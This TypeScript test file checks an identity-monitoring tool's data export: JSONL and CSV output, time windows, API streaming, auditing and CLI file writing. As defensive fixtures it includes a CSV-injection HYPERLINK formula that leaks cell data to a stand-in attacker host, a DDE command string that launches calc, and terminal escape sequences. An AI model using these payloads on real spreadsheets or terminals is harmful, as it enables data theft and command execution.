// Export of collected data (`idsight export`, GET /api/integrations/:id/export), after collecting
// a small simulated tenant: JSON lines are the stored Graph records byte for byte, CSV parses
// back with its header, ISO times and neutralised formulas, windows filter, every mistake gets
// its own error, the CLI writes a private file atomically, and the API streams to any role.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import type { Kysely } from 'kysely';
import { SESSION_COOKIE } from '../src/api/session-cookie.js';
import type { z } from 'zod';
import { exportQuery } from '../src/api/routes/export/schema.js';
import { exportChunks, planExport } from '../src/export/export.js';
import { CREDENTIAL_COLUMNS, DATASETS, GROUP_MEMBER_COLUMNS } from '../src/store/datasets.js';
import { TEXT_COLUMNS } from '../src/store/signin-columns.js';
import { createSignInRepo } from '../src/store/signins.js';
import { signedInUser, startApp, T0, type TestApp } from './helpers/app.js';
import { DIALECTS, skipReason, tempDir } from './helpers/databases.js';
import { ApiClient } from './helpers/http.js';
import { storedSignIns } from './helpers/signins.js';
import { childEnv, ROOT, runIdsight } from './helpers/cli.js';
import { simulatedCredentials, startTestSimulator, type TestSimulator } from './helpers/simulator.js';

const DAY = 86_400_000;
const ISO_TIME = /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/;
const FORMULA = '=HYPERLINK("https://attacker.example/?d="&A1,"Open")';

async function text(chunks: AsyncIterable<string>): Promise<string> {
  let out = '';
  for await (const c of chunks) out += c;
  return out;
}
const lines = (s: string): string[] => (s === '' ? [] : s.replace(/\n$/, '').split('\n'));
const csv = (s: string): string[][] => parse(s, { record_delimiter: '\r\n' }) as string[][];

const idsight = runIdsight;

for (const dialect of DIALECTS)
  describe(`export of collected data (${dialect})`, { skip: skipReason(dialect) }, () => {
    let app: TestApp;
    let sim: TestSimulator;
    let k: Kysely<any>;
    let id = '';
    let formulaUserId = '';
    let analyst: ApiClient;
    let helpdesk: ApiClient;

    /** The export as the library produces it. */
    const exported = (o: z.input<typeof exportQuery>, integrationId = id) =>
      text(exportChunks(app.ctx.store, integrationId, planExport(exportQuery.parse(o))));
    /** GET through the API as a signed-in user; the body as text, whatever its type. */
    async function download(client: ApiClient, query: string) {
      const res = await fetch(`${app.url}/api/integrations/${id}/export?${query}`, {
        headers: { cookie: `${SESSION_COOKIE}=${client.cookie(SESSION_COOKIE)}` },
      });
      return { status: res.status, headers: res.headers, text: await res.text() };
    }
    const cliEnv = () => ({
      IDSIGHT_DATA_DIR: app.database.dataDir,
      ...(app.database.databaseUrl ? { IDSIGHT_DATABASE_URL: app.database.databaseUrl } : {}),
      IDSIGHT_LOG_LEVEL: 'warn',
    });

    before(async () => {
      sim = await startTestSimulator({
        throttle: 'off',
        users: 30,
        days: 7,
        clock: `fixed:${new Date(T0).toISOString()}`,
      });
      app = await startApp(dialect);
      k = app.ctx.db.kysely as unknown as Kysely<any>;
      const { integration } = await app.ctx.integrations.add({
        name: 'Contoso',
        ...simulatedCredentials(sim, 'contoso'),
      });
      id = integration.id;
      // A user whose display name a spreadsheet would run as a formula.
      const created = await sim.control('POST', '/directory/users', {
        tenant: 'contoso',
        displayName: FORMULA,
        userPrincipalName: `formula.user@${sim.tenant('contoso').initialDomain}`,
      });
      formulaUserId = created.id;
      const outcomes = await app.ctx.collector.run(id);
      for (const o of outcomes) assert.equal(o.status, 'succeeded', `${o.dataType}: ${o.error ?? ''}`);

      analyst = await signedInUser(app, 'analyst');
      helpdesk = await signedInUser(app, 'helpdesk');
    });
    after(async () => {
      await app?.close();
      await sim?.close();
    });

    test('jsonl of signIns is the stored raw records, byte for byte, in time order', async () => {
      const all = await storedSignIns(app.ctx.db, id);
      const stored = all.filter((r) => r.eventType === 'interactiveUser');
      assert.ok(stored.length > 100, `a tenant's worth of sign-ins (${stored.length})`);
      const out = await exported({ type: 'signIns' });
      assert.ok(out.endsWith('\n'));
      assert.deepEqual(
        lines(out),
        stored.map((r) => r.raw),
      );
      for (const line of lines(out).slice(0, 20)) assert.equal(JSON.parse(line).isInteractive, true);

      const others = all.filter((r) => r.eventType !== 'interactiveUser');
      assert.ok(others.length > 0);
      const nonInteractive = lines(await exported({ type: 'nonInteractiveSignIns' }));
      assert.deepEqual(
        nonInteractive,
        others.map((r) => r.raw),
      );
      const types = new Set(nonInteractive.map((l) => JSON.parse(l).signInEventTypes[0]));
      assert.ok(types.has('nonInteractiveUser') && !types.has('interactiveUser'), [...types].join());
    });

    test('since/until: the window [since, until) on createdDateTime, with or without an offset; timed data sets too', async () => {
      const since = T0 - 3 * DAY;
      const until = T0 - DAY;
      const count = async (table: string, column: string, from: number, to: number, extra: (q: any) => any) =>
        Number(
          (
            await extra(
              k
                .selectFrom(table)
                .select((eb) => eb.fn.countAll().as('n'))
                .where('integration_id', '=', id)
                .where(column, '>=', from)
                .where(column, '<', to),
            ).executeTakeFirstOrThrow()
          ).n,
        );
      const interactive = (await storedSignIns(app.ctx.db, id)).filter((r) => r.eventType === 'interactiveUser');
      const signInsIn = (from: number, to: number) =>
        interactive.filter((r) => r.createdAt >= from && r.createdAt < to).length;
      const expected = signInsIn(since, until);
      assert.ok(expected > 0);
      // the same instants, written in UTC and with an offset
      const out = lines(
        await exported({ type: 'signIns', since: new Date(since).toISOString(), until: '2026-11-26T10:00:00+01:00' }),
      );
      assert.equal(out.length, expected);
      for (const l of out) {
        const t = Date.parse(JSON.parse(l).createdDateTime);
        assert.ok(t >= since && t < until, JSON.parse(l).createdDateTime);
      }
      // a date alone is midnight UTC
      const byDate = lines(await exported({ type: 'signIns', since: '2026-11-24', until: '2026-11-26T09:00:00Z' }));
      assert.equal(byDate.length, signInsIn(Date.parse('2026-11-24T00:00:00Z'), until));
      // only since, only until: the two halves make the whole
      const all = lines(await exported({ type: 'signIns' })).length;
      const before = lines(await exported({ type: 'signIns', until: '2026-11-25T00:00:00Z' })).length;
      const fromOn = lines(await exported({ type: 'signIns', since: '2026-11-25T00:00:00Z' })).length;
      assert.ok(before > 0 && fromOn > 0);
      assert.equal(before + fromOn, all);

      const audits = lines(
        await exported({
          type: 'directoryAudits',
          since: new Date(since).toISOString(),
          until: new Date(until).toISOString(),
        }),
      );
      assert.equal(
        audits.length,
        await count('directory_audits', 'activity_at', since, until, (q) => q.where('deleted_at', 'is', null)),
      );
    });

    test('the sign-in stream pages by (created_at, id): records sharing a time are neither lost nor repeated', async () => {
      const repo = createSignInRepo(app.ctx.db);
      const at = (ms: number) => new Date(ms).toISOString();
      const records = [
        ...['q', 'c', 'x', 'a', 'm', 'b', 'z'].map((s) => ({
          id: `tie-${s}`,
          createdDateTime: at(T0 - DAY),
          signInEventTypes: ['interactiveUser'],
        })),
        ...[1, 2, 3, 4].map((i) => ({
          id: `later-${i}`,
          createdDateTime: at(T0 - DAY + i),
          signInEventTypes: ['interactiveUser'],
        })),
        { id: 'svc-1', createdDateTime: at(T0 - DAY), signInEventTypes: ['servicePrincipal'] },
      ];
      await repo.upsert('ties', records, T0);
      for (const batch of [1, 2, 3, 1000]) {
        const got = [];
        for await (const r of repo.stream('ties', { batch, eventTypes: ['interactiveUser'] })) got.push(r.sign_in_id);
        assert.deepEqual(
          got,
          ['tie-a', 'tie-b', 'tie-c', 'tie-m', 'tie-q', 'tie-x', 'tie-z', 'later-1', 'later-2', 'later-3', 'later-4'],
          `batch ${batch}`,
        );
      }
      const others = [];
      for await (const r of repo.stream('ties', { batch: 2, exceptEventTypes: ['interactiveUser'] }))
        others.push(r.sign_in_id);
      assert.deepEqual(others, ['svc-1']);
      const window = [];
      for await (const r of repo.stream('ties', { batch: 2, since: T0 - DAY + 1, until: T0 - DAY + 4 }))
        window.push(r.sign_in_id);
      assert.deepEqual(window, ['later-1', 'later-2', 'later-3']);
      await repo.purge('ties');
    });

    test('csv of users: header, one row per user, ISO times, true/false, and the formula neutralised', async () => {
      const out = await exported({ type: 'users', format: 'csv' });
      assert.ok(out.includes('\r\n'), 'RFC 4180 line ends');
      const [header, ...rows] = csv(out);
      assert.deepEqual(header, [
        'id',
        ...Object.keys(DATASETS.users.columns),
        'deleted_at',
        'removed_reason',
        'collected_at',
      ]);
      const present = await k
        .selectFrom('directory_users')
        .select('id')
        .where('integration_id', '=', id)
        .where('deleted_at', 'is', null)
        .execute();
      assert.equal(rows.length, present.length);
      const col = (name: string) => header!.indexOf(name);
      for (const r of rows) {
        assert.equal(r.length, header!.length);
        assert.match(r[col('collected_at')]!, ISO_TIME);
        if (r[col('created_at')]) assert.match(r[col('created_at')]!, ISO_TIME);
        assert.ok(['true', 'false'].includes(r[col('account_enabled')]!), r[col('account_enabled')]);
        assert.equal(r[col('deleted_at')], '');
      }
      const formula = rows.find((r) => r[col('id')] === formulaUserId);
      assert.ok(formula, 'the user added before collection is exported');
      assert.equal(formula[col('display_name')], `'${FORMULA}`, 'a quote makes the formula text');
      // in the file itself: quoted (it holds quotes and a comma), and never starting with =
      assert.ok(out.includes(`"'=HYPERLINK(""https://attacker.example/?d=""&A1,""Open"")"`), 'RFC 4180 quoting');
      assert.ok(!/(^|[,\n])"?=/.test(out), 'no cell starts with =');
      // jsonl keeps the record as Graph sent it
      const raw = lines(await exported({ type: 'users' })).map((l) => JSON.parse(l));
      assert.equal(raw.find((u) => u.id === formulaUserId).displayName, FORMULA);
    });

    test('csv of hostile names: one row per user, and no cell nor line starts as a formula, read by csv-parse and by Python', async () => {
      const names = [
        "Jane Doe\n=cmd|' /C calc'!A0",
        '\r=1+1',
        'x\r\n+SUM(1)',
        'a\n\n-2+3',
        'ok\r\r=1',
        '@SUM(1)',
        '\t=1',
        '\uFF1D1+1',
        'y\n\uFF20A1',
        '"quoted",\n=1',
      ];
      const users = names.map((displayName, i) => ({ id: `hostile-${i}`, displayName }));
      await app.ctx.store.datasets.upsert(DATASETS.users, 'hostile', users, { generation: 1, collectedAt: T0 });
      const out = await exported({ type: 'users', format: 'csv' }, 'hostile');
      const formulaStart = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
      const python = spawnSync(
        'python3',
        [
          '-c',
          "import csv, io, json, sys; print(json.dumps(list(csv.reader(io.TextIOWrapper(sys.stdin.buffer, newline='')))))",
        ],
        { input: out },
      );
      assert.equal(python.status, 0, python.stderr.toString());
      for (const [reader, table] of [
        ['csv-parse', parse(out) as string[][]],
        ['python', JSON.parse(python.stdout.toString()) as string[][]],
      ] as const) {
        const [header, ...rows] = table;
        assert.equal(rows.length, names.length, `${reader}: one row per user`);
        const name = header!.indexOf('display_name');
        for (const row of rows) {
          assert.equal(row.length, header!.length, reader);
          for (const cell of row) assert.doesNotMatch(cell, formulaStart, `${reader}: ${JSON.stringify(cell)}`);
          // the name is all there, a quote before each formula start
          const original = names[Number(row[0]!.slice('hostile-'.length))]!;
          assert.equal(row[name]!.replace(/(^|[\r\n])'/g, '$1'), original, reader);
        }
      }
      for (const line of out.split(/\r\n|\r|\n/)) assert.doesNotMatch(line, formulaStart, JSON.stringify(line));
      await app.ctx.store.datasets.purge('hostile');
    });

    test('csv of sign-ins: typed columns with the Graph id first; numbers stay numbers, text that looks like a formula does not', async () => {
      const out = await exported({ type: 'signIns', format: 'csv' });
      const [header, ...rows] = csv(out);
      assert.equal(header![0], 'id');
      assert.ok(
        header!.includes('created_at') &&
          header!.includes('ip_address') &&
          !header!.includes('raw') &&
          !header!.includes('hour'),
      );
      const stored = (await storedSignIns(app.ctx.db, id)).filter((r) => r.eventType === 'interactiveUser');
      assert.deepEqual(
        rows.map((r) => r[0]),
        stored.map((s) => s.id),
      );
      assert.deepEqual(
        rows.map((r) => r[header!.indexOf('created_at')]),
        stored.map((s) => new Date(s.createdAt).toISOString()),
      );
      // the typed columns are those of the records: a row's user agent and place are its record's
      const byId = new Map(stored.map((s) => [s.id, JSON.parse(s.raw)]));
      for (const r of rows.slice(0, 50)) {
        const record = byId.get(r[0]!);
        assert.equal(r[header!.indexOf('user_principal_name')], String(record.userPrincipalName).toLowerCase());
        assert.equal(r[header!.indexOf('city')], record.location.city ?? '');
        assert.equal(r[header!.indexOf('user_agent')], record.userAgent ?? '');
      }
      assert.ok(rows.every((r) => ['true', 'false', ''].includes(r[header!.indexOf('is_interactive')]!)));

      // a crafted sign-in: a negative longitude is a number, a display name starting with - or @ is not
      const repo = createSignInRepo(app.ctx.db);
      await repo.upsert(
        'crafted',
        [
          {
            id: 'c-1',
            createdDateTime: new Date(T0).toISOString(),
            userDisplayName: '-2+3',
            appDisplayName: '@SUM(1)',
            location: { city: '\tTab', geoCoordinates: { latitude: -33.5, longitude: -70.25 } },
          },
        ],
        T0,
      );
      const [h, row] = csv(await exported({ type: 'signIns', format: 'csv' }, 'crafted'));
      const cell = (name: string) => row![h!.indexOf(name)];
      assert.equal(cell('latitude'), '-33.5');
      assert.equal(cell('longitude'), '-70.25');
      assert.equal(cell('user_display_name'), "'-2+3");
      assert.equal(cell('app_display_name'), "'@SUM(1)");
      assert.equal(cell('city'), "'\tTab");
      await repo.purge('crafted');
    });

    test("the columns read as times and booleans are the tables' epoch-ms and 0/1 columns", async () => {
      const tables = await app.ctx.db.kysely.introspection.getTables();
      const typeOf = (table: string, column: string) =>
        tables
          .find((t) => t.name === table)!
          .columns.find((c) => c.name === column)!
          .dataType.toLowerCase();
      const isTime = (c: string) => c.endsWith('_at');
      const isBool = (c: string) => c.startsWith('is_') || c.endsWith('_enabled');
      const checks: Array<[string, readonly string[]]> = [
        ...Object.values(DATASETS).map(
          (s) => [s.table, [...Object.keys(s.columns), 'deleted_at', 'collected_at']] as [string, string[]],
        ),
        ['app_credentials', CREDENTIAL_COLUMNS],
        ['group_members', GROUP_MEMBER_COLUMNS],
        // sign-ins: texts are dictionary numbers (integers); a version's fetch time is its block's
        [
          'signins',
          planExport(exportQuery.parse({ type: 'signIns' })).columns.filter(
            (c) => c !== 'id' && c !== 'collected_at' && !(TEXT_COLUMNS as readonly string[]).includes(c),
          ),
        ],
        ['signin_blocks', ['collected_at']],
      ];
      for (const [table, columns] of checks) {
        for (const c of columns) {
          const type = typeOf(table, c);
          const small = type === 'smallint' || type === 'int2';
          assert.equal(isBool(c), small, `${table}.${c} (${type}): a boolean exactly when stored as smallint`);
          if (isTime(c)) assert.ok(['bigint', 'int8'].includes(type), `${table}.${c} (${type}) is a time: epoch ms`);
        }
      }
    });

    test('groupMembers and appCredentials', async () => {
      const members = await k
        .selectFrom('group_members')
        .select(['group_id', 'member_id', 'member_type'])
        .where('integration_id', '=', id)
        .orderBy('group_id')
        .orderBy('member_id')
        .execute();
      assert.ok(members.length > 0);
      const [mh, ...mrows] = csv(await exported({ type: 'groupMembers', format: 'csv' }));
      assert.deepEqual(mh, [...GROUP_MEMBER_COLUMNS]);
      assert.deepEqual(
        mrows,
        members.map((m) => [m.group_id, m.member_id, m.member_type]),
      );
      assert.deepEqual(
        lines(await exported({ type: 'groupMembers' })).map((l) => JSON.parse(l)),
        members,
      );

      const creds = await k
        .selectFrom('app_credentials')
        .selectAll()
        .where('integration_id', '=', id)
        .orderBy('owner_id')
        .orderBy('key_id')
        .execute();
      assert.ok(creds.length > 0);
      const [ch, ...crows] = csv(await exported({ type: 'appCredentials', format: 'csv' }));
      assert.deepEqual(ch, [...CREDENTIAL_COLUMNS]);
      assert.equal(crows.length, creds.length);
      const end = ch!.indexOf('end_at');
      crows.forEach((r, i) => {
        assert.equal(r[ch!.indexOf('key_id')], creds[i]!.key_id);
        assert.equal(r[end], creds[i]!.end_at === null ? '' : new Date(Number(creds[i]!.end_at)).toISOString());
      });
      const json = lines(await exported({ type: 'appCredentials' })).map((l) => JSON.parse(l));
      assert.equal(json.length, creds.length);
      assert.match(json.find((c) => c.end_at)!.end_at, ISO_TIME);
    });

    test('csv of role assignments names the role and the principal beside their ids', async () => {
      const [header, ...rows] = csv(await exported({ type: 'roleAssignments', format: 'csv' }));
      const at = (name: string) => header!.indexOf(name);
      assert.ok(rows.length > 0);
      assert.deepEqual(header!.slice(at('directory_scope_id') + 1, at('deleted_at')), [
        'role_display_name',
        'principal_type',
        'principal_display_name',
        'principal_user_principal_name',
      ]);
      const roles = await k.selectFrom('role_definitions').selectAll().where('integration_id', '=', id).execute();
      const users = await k.selectFrom('directory_users').selectAll().where('integration_id', '=', id).execute();
      for (const r of rows) {
        const role = roles.find(
          (d) => d.id === r[at('role_definition_id')] || d.template_id === r[at('role_definition_id')],
        );
        assert.equal(r[at('role_display_name')], role?.display_name ?? '', r.join());
        const user = users.find((u) => u.id === r[at('principal_id')]);
        if (user) {
          assert.deepEqual(
            [r[at('principal_type')], r[at('principal_display_name')], r[at('principal_user_principal_name')]],
            ['user', user.display_name ?? '', user.user_principal_name ?? ''],
          );
        }
      }
      const globalAdmins = rows.filter((r) => r[at('role_display_name')] === 'Global Administrator');
      assert.ok(
        globalAdmins.length > 0 && globalAdmins.every((r) => r[at('principal_display_name')] !== ''),
        'named, not bare GUIDs',
      );
    });

    test('every data set exports as many records as are stored; --include-deleted adds those that left', async () => {
      for (const spec of Object.values(DATASETS)) {
        const n = Number(
          (
            await k
              .selectFrom(spec.table)
              .select((eb) => eb.fn.countAll().as('n'))
              .where('integration_id', '=', id)
              .where('deleted_at', 'is', null)
              .executeTakeFirstOrThrow()
          ).n,
        );
        assert.equal(lines(await exported({ type: spec.name })).length, n, spec.name);
        assert.equal(csv(await exported({ type: spec.name, format: 'csv' })).length, n + 1, spec.name);
      }
      // a user soft-deleted in the tenant, then collected: gone from the default export, kept as evidence
      await sim.control('DELETE', `/directory/users/${formulaUserId}?tenant=contoso`);
      await sim.control('POST', '/clock/advance', { seconds: 60 });
      app.clock.advance(60_000);
      const [u] = await app.ctx.collector.run(id, { types: ['users'] });
      assert.equal(u!.status, 'succeeded', u!.error);
      assert.ok(!lines(await exported({ type: 'users' })).some((l) => JSON.parse(l).id === formulaUserId));
      const [header, ...rows] = csv(await exported({ type: 'users', format: 'csv', includeDeleted: true }));
      const gone = rows.find((r) => r[0] === formulaUserId)!;
      assert.match(gone[header!.indexOf('deleted_at')]!, ISO_TIME);
      assert.equal(gone[header!.indexOf('removed_reason')], 'changed');
      const viaApi = await download(analyst, 'type=users&includeDeleted=true');
      assert.ok(lines(viaApi.text).some((l) => JSON.parse(l).id === formulaUserId));
    });

    test('the API streams an export to an analyst, as an attachment, and audits it', async () => {
      const res = await download(analyst, 'type=signIns');
      assert.equal(res.status, 200, res.text.slice(0, 300));
      assert.equal(res.headers.get('content-type'), 'application/x-ndjson; charset=utf-8');
      assert.equal(res.headers.get('content-disposition'), 'attachment; filename="idsight-signIns-2026-11-27.jsonl"');
      assert.equal(res.headers.get('transfer-encoding'), 'chunked', 'streamed, not buffered');
      assert.equal(res.headers.get('content-length'), null);
      assert.equal(res.headers.get('cache-control'), 'no-store');
      assert.equal(res.text, await exported({ type: 'signIns' }));

      const c = await download(
        helpdesk,
        `type=directoryAudits&format=csv&since=${encodeURIComponent(new Date(T0 - 2 * DAY).toISOString())}`,
      );
      assert.equal(c.status, 200);
      assert.equal(c.headers.get('content-type'), 'text/csv; charset=utf-8');
      assert.equal(
        c.headers.get('content-disposition'),
        'attachment; filename="idsight-directoryAudits-2026-11-27.csv"',
      );
      assert.equal(
        c.text,
        await exported({ type: 'directoryAudits', format: 'csv', since: new Date(T0 - 2 * DAY).toISOString() }),
      );

      // documented, without a JSON 200 (the body is a stream of text)
      const doc = await analyst.get<any>('/api/openapi.json');
      const op = doc.body.paths['/api/integrations/{id}/export'].get;
      assert.match(op.description, /x-ndjson/);
      assert.deepEqual(Object.keys(op.responses).sort(), ['400', '401', '403', '404']);

      const entries = await app.ctx.audit.list({ limit: 50, action: 'integrations.export' });
      const mine = entries.find((e) => e.actor.label === 'analyst@example.com' && e.detail?.type === 'signIns');
      assert.ok(mine, JSON.stringify(entries));
      assert.equal(mine.outcome, 'success');
      assert.equal(mine.target, id);
      assert.deepEqual(mine.detail, { type: 'signIns', format: 'jsonl', includeDeleted: false });
      assert.ok(
        entries.some(
          (e) =>
            e.actor.label === 'helpdesk@example.com' &&
            e.detail?.type === 'directoryAudits' &&
            e.detail?.format === 'csv',
        ),
      );
    });

    test('every mistake gets its own answer before any body: 400 with what is wrong, 404, 401', async () => {
      const bad = async (query: string, message: RegExp | string) => {
        const res = await analyst.get<any>(`/api/integrations/${id}/export?${query}`);
        assert.equal(res.status, 400, `${query}: ${res.text}`);
        assert.equal(res.headers.get('content-disposition'), null);
        assert.equal(res.body.error.code, 'validation_failed', query);
        if (typeof message === 'string') assert.equal(res.body.error.message, message, query);
        else assert.match(res.body.error.message, message, query);
      };
      await bad(
        'type=bogus',
        /^querystring\.type: unknown export type "bogus"; known types: signIns, nonInteractiveSignIns, users, groups, .*groupMembers, appCredentials$/,
      );
      await bad('', /^querystring\.type: say which records to export; known types: signIns/);
      await bad('type=signIns&format=xml', 'querystring.format: unknown format "xml": use jsonl or csv');
      await bad(
        'type=signIns&since=yesterday',
        /^querystring\.since: "yesterday" is not an ISO 8601 timestamp: write e\.g\. 2026-11-20/,
      );
      await bad(
        'type=signIns&until=2026-11-20T08:00:00',
        /^querystring\.until: "2026-11-20T08:00:00" is not an ISO 8601 timestamp with a time zone/,
      );
      await bad('type=signIns&since=2026-02-30', /^querystring\.since: "2026-02-30" is not an ISO 8601 timestamp/);
      await bad(
        'type=signIns&since=2026-11-25T00:00:00Z&until=2026-11-24T00:00:00Z',
        'since (2026-11-25T00:00:00.000Z) is after until (2026-11-24T00:00:00.000Z)',
      );
      await bad(
        'type=users&since=2026-11-25T00:00:00Z',
        'users has no time: --since/--until apply to signIns, nonInteractiveSignIns, directoryAudits, riskDetections',
      );
      await bad('type=groupMembers&until=2026-11-25T00:00:00Z', /^groupMembers has no time/);
      await bad('type=signIns&includeDeleted=maybe', /includeDeleted/);
      await bad('type=signIns&limit=5', /limit|unrecognized/i);

      const missing = await analyst.get<any>('/api/integrations/no-such-integration/export?type=signIns');
      assert.equal(missing.status, 404);
      assert.deepEqual(missing.body.error, { code: 'not_found', message: 'no integration no-such-integration' });
      const anonymous = await new ApiClient(app.url).get<any>(`/api/integrations/${id}/export?type=signIns`);
      assert.equal(anonymous.status, 401);
      assert.equal(anonymous.body.error.code, 'unauthenticated');

      const failures = await app.ctx.audit.list({ limit: 100, action: 'integrations.export', outcome: 'failure' });
      assert.ok(
        failures.some((e) => (e.detail?.type as { length?: number } | undefined)?.length === 5 && e.status === 400),
        'refused exports are audited too',
      );
      // an anonymous refusal is counted into its address's summary for the minute, not a row of its own
      const denied = await app.ctx.audit.list({ limit: 100, action: 'integrations.export', outcome: 'denied' });
      assert.equal(denied.filter((e) => e.actor.type === 'anonymous').length, 0, 'no row per anonymous refusal');
    });

    test('CLI: to a terminal, the control characters of Graph text show as escapes; to a pipe, the export is exact', async () => {
      const name = 'Eve\x1b]0;pwned\x07\x1b[2J\u202eevil\x9b';
      await app.ctx.store.datasets.upsert(DATASETS.users, id, [{ id: 'tty-user', displayName: name }], {
        generation: 1,
        collectedAt: T0,
      });
      try {
        const args = ['export', id, '--type', 'users', '--format', 'csv'];
        const piped = await idsight(args, cliEnv());
        assert.equal(piped.code, 0, piped.stderr);
        assert.ok(piped.stdout.includes(name), 'a pipe gets the text as Graph sent it');
        // `script` runs the command on a pseudo-terminal, as a user at a shell would
        const command = [process.execPath, '--import', 'tsx', 'src/cli/main.ts', ...args].join(' ');
        const tty = spawnSync('script', ['-qec', command, '/dev/null'], { cwd: ROOT, env: childEnv(cliEnv()) });
        const shown = tty.stdout.toString();
        assert.equal(tty.status, 0, tty.stderr.toString() + shown);
        assert.ok(shown.includes('Eve\\x1b]0;pwned\\x07\\x1b[2J\\u202eevil\\x9b'), shown.slice(0, 2000));
        // eslint-disable-next-line no-control-regex -- control characters are what it looks for
        assert.ok(!/[\x1b\x07\x9b\u202e]/.test(shown), 'no control character reaches the terminal');
      } finally {
        await app.ctx.store.datasets.markRemoved(DATASETS.users, id, [{ id: 'tty-user', reason: 'test' }], T0);
      }
    });

    test('CLI: export to a file (0600, written whole, summary on stderr), to stdout, and exit 2 on a bad --type', async () => {
      const dir = tempDir('idsight-export-');
      const file = path.join(dir, 'signins.jsonl');
      const r = await idsight(['export', id, '--type', 'signIns', '--since', '2026-11-24', '--output', file], cliEnv());
      assert.equal(r.code, 0, r.stderr);
      assert.equal(r.stdout, '');
      const content = readFileSync(file, 'utf8');
      assert.equal(content, await exported({ type: 'signIns', since: '2026-11-24' }));
      assert.equal(statSync(file).mode & 0o777, 0o600);
      assert.ok(!existsSync(`${file}.partial`));
      assert.equal(
        r.stderr,
        `exported ${lines(content).length} signIns records (${Buffer.byteLength(content)} bytes, jsonl) to ${file}\n`,
      );

      const out = await idsight(['export', id, '--type', 'licences', '--format', 'csv'], cliEnv());
      assert.equal(out.code, 0, out.stderr);
      assert.equal(out.stdout, await exported({ type: 'licences', format: 'csv' }));

      const bad = await idsight(['export', id, '--type', 'bogus', '--output', path.join(dir, 'bogus.jsonl')], cliEnv());
      assert.equal(bad.code, 2, bad.stderr);
      assert.match(bad.stderr, /unknown export type "bogus"; known types: signIns, nonInteractiveSignIns/);
      assert.ok(!existsSync(path.join(dir, 'bogus.jsonl')) && !existsSync(path.join(dir, 'bogus.jsonl.partial')));
      const noType = await idsight(['export', id], cliEnv());
      assert.equal(noType.code, 2);
      assert.match(noType.stderr, /--type/);
      const window = await idsight(['export', id, '--type', 'users', '--since', '2026-11-24'], cliEnv());
      assert.equal(window.code, 2);
      assert.match(window.stderr, /users has no time: --since\/--until apply to signIns/);

      const unknown = await idsight(
        ['export', 'no-such-integration', '--type', 'users', '--output', path.join(dir, 'x.jsonl')],
        cliEnv(),
      );
      assert.equal(unknown.code, 1);
      assert.match(unknown.stderr, /^idsight: no integration is named "no-such-integration"/);
      const nowhere = await idsight(
        ['export', id, '--type', 'users', '--output', path.join(dir, 'missing-dir', 'users.jsonl')],
        cliEnv(),
      );
      assert.equal(nowhere.code, 1);
      assert.ok(!existsSync(path.join(dir, 'missing-dir')));

      const audit = await app.ctx.audit.list({ limit: 50, action: 'integrations.export' });
      const cli = audit.find((e) => e.actor.type === 'cli' && e.detail?.output === file);
      assert.ok(cli, 'the CLI export is audited');
      assert.equal(cli.outcome, 'success');
      assert.equal(cli.detail?.records, lines(content).length);
    });
  });
